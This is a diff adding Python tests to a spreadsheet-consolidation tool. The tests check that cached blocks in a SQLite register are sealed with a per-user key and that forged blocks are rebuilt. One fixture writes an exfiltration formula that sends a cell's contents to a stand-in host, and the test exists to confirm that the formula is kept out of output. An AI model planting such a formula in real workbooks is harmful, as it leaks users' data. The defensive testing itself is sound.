@@ -334,3 +334,115 @@ def test_the_block_builder_and_its_vocabulary_are_in_the_rules_version(monkeypat
     finally:
         R.rules_version.cache_clear()
     assert R.rules_version("1.0") == before
+
+
+# ------------------------------------------------------------------ the seal of the blocks (register_key)
+def _formula_block(rel: str) -> tuple[bytes, int, int]:
+    """A block as one forging a register would write it: a formula sending data away, its stream,
+    length and CRC-32 right."""
+    import zlib
+
+    xml = ('<row><c t="str"><f>WEBSERVICE("https://exemple.invalid/?"&amp;A4)</f><v>x</v></c></row>').encode()
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return c.compress(xml) + c.flush(zlib.Z_SYNC_FLUSH), len(xml), zlib.crc32(xml)
+
+
+def test_a_block_forged_in_the_register_is_made_again_never_joined(tmp_path, examples, monkeypatch):
+    """A register from elsewhere whose block carries a formula, every check a forger can compute
+    right (stream, length, CRC-32, and the check of the summary it claims): not joined; the
+    workbook is the cold one, and the block made again is kept sealed with this user's key."""
+    import zlib
+
+    from acv_xl.history import register_key as K
+
+    _frozen_clock(monkeypatch)
+    folder = _folder(tmp_path, examples)
+    reg = tmp_path / "registre.sqlite"
+    C.consolidate([folder], tmp_path / "froid.xlsx", jobs=1)
+    with R.Register.open(reg, __version__) as r:
+        C.consolidate([folder], tmp_path / "premier.xlsx", jobs=1, cache=r, record=r.record)
+    con = sqlite3.connect(reg)
+    rel = examples[0].name
+    aid, rows = con.execute("SELECT analyse_id, lignes FROM blocs WHERE chemin = ? AND feuille = ?",
+                            (rel, B.LIGNES)).fetchone()  # its count of rows kept: what the writer checks
+    resume, = con.execute("SELECT resume FROM analyses WHERE id = ?", (aid,)).fetchone()
+    data, length, crc = _formula_block(rel)
+    summary_crc = zlib.crc32(resume.encode("utf-8"))
+    # what a forger can compute: the unkeyed check, and a seal under a key of their own
+    for check in (zlib.crc32(data, summary_crc),
+                  K.seal(b"k" * 32, summary_crc, B.LIGNES, con.execute(
+                      "SELECT sha256 FROM blocs WHERE analyse_id = ?", (aid,)).fetchone()[0], rel, rows, length, crc, data)):
+        con.execute("UPDATE blocs SET deflate = ?, longueur = ?, crc32 = ?, controle = ? "
+                    "WHERE analyse_id = ? AND chemin = ? AND feuille = ?", (data, length, crc, check, aid, rel, B.LIGNES))
+        con.commit()
+        made = _blocs_made(monkeypatch)
+        with R.Register.open(reg, __version__) as r:
+            C.consolidate([folder], tmp_path / "chaud.xlsx", jobs=1, cache=r, record=r.record)
+        assert (B.LIGNES, rel) in made
+        assert _parts(tmp_path / "chaud.xlsx") == _parts(tmp_path / "froid.xlsx")
+        assert not any(b"WEBSERVICE" in v for v in _parts(tmp_path / "chaud.xlsx").values())
+        # the block made again replaced the forged one, sealed with this user's key: reused next time
+        stored, = con.execute("SELECT deflate FROM blocs WHERE analyse_id = ? AND chemin = ? AND feuille = ?",
+                              (aid, rel, B.LIGNES)).fetchone()
+        assert stored != data
+        made.clear()
+        with R.Register.open(reg, __version__) as r:
+            C.consolidate([folder], tmp_path / "chaud2.xlsx", jobs=1, cache=r, record=r.record)
+        assert made == []
+    con.close()
+
+
+def test_another_users_register_has_its_blocks_made_again_and_a_run_without_key_keeps_none(tmp_path, examples,
+                                                                                             monkeypatch):
+    """Blocks sealed under another key (another user or machine) are made again, the same workbook;
+    without a usable key, none is reused nor kept, the same workbook again."""
+    from acv_xl.history import register_key as K
+
+    _frozen_clock(monkeypatch)
+    folder = _folder(tmp_path, examples)
+    reg = tmp_path / "registre.sqlite"
+    C.consolidate([folder], tmp_path / "froid.xlsx", jobs=1)
+    cold = _parts(tmp_path / "froid.xlsx")
+    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "cle-a"))
+    with R.Register.open(reg, __version__) as r:
+        C.consolidate([folder], tmp_path / "a.xlsx", jobs=1, cache=r, record=r.record)
+    kept = sqlite3.connect(reg).execute("SELECT COUNT(*) FROM blocs").fetchone()[0]
+    assert kept > 0 and (tmp_path / "cle-a").stat().st_mode & 0o777 == 0o600
+    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "cle-b"))  # another user
+    made = _blocs_made(monkeypatch)
+    with R.Register.open(reg, __version__) as r:
+        C.consolidate([folder], tmp_path / "b.xlsx", jobs=1, cache=r, record=r.record)
+    assert len(made) == kept and _parts(tmp_path / "b.xlsx") == cold
+    made.clear()
+    with R.Register.open(reg, __version__) as r:  # sealed again with this one's key: reused now
+        C.consolidate([folder], tmp_path / "b2.xlsx", jobs=1, cache=r, record=r.record)
+    assert made == [] and _parts(tmp_path / "b2.xlsx") == cold
+    # no usable key: a folder of settings that cannot be made (a file stands there)
+    (tmp_path / "fichier").write_text("")
+    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "fichier" / "cle"))
+    reg2 = tmp_path / "registre2.sqlite"
+    for out in ("c.xlsx", "c2.xlsx"):
+        with R.Register.open(reg2, __version__) as r:
+            C.consolidate([folder], tmp_path / out, jobs=1, cache=r, record=r.record)
+        assert _parts(tmp_path / out) == cold
+    assert sqlite3.connect(reg2).execute("SELECT COUNT(*) FROM blocs").fetchone()[0] == 0
+
+
+def test_the_key_is_made_once_readable_by_its_owner_and_a_damaged_one_left_as_it_is(tmp_path, monkeypatch):
+    from acv_xl.history import register_key as K
+
+    path = tmp_path / "reglages" / "acv-xl" / K.KEY_NAME
+    monkeypatch.setenv(K.KEY_ENV, str(path))
+    monkeypatch.setattr(K, "_cached", {})
+    key = K.block_key()
+    assert key is not None and len(key) == 32 and path.stat().st_mode & 0o777 == 0o600
+    monkeypatch.setattr(K, "_cached", {})
+    assert K.block_key() == key  # read again, not made anew
+    path.write_text("abîmée\n")
+    monkeypatch.setattr(K, "_cached", {})
+    assert K.block_key() is None and path.read_text() == "abîmée\n"
+    # where no variable names it: in the user's settings
+    monkeypatch.delenv(K.KEY_ENV)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+    if not K.sys.platform.startswith(("win", "darwin")):
+        assert K.key_path() == tmp_path / "xdg" / "acv-xl" / K.KEY_NAME
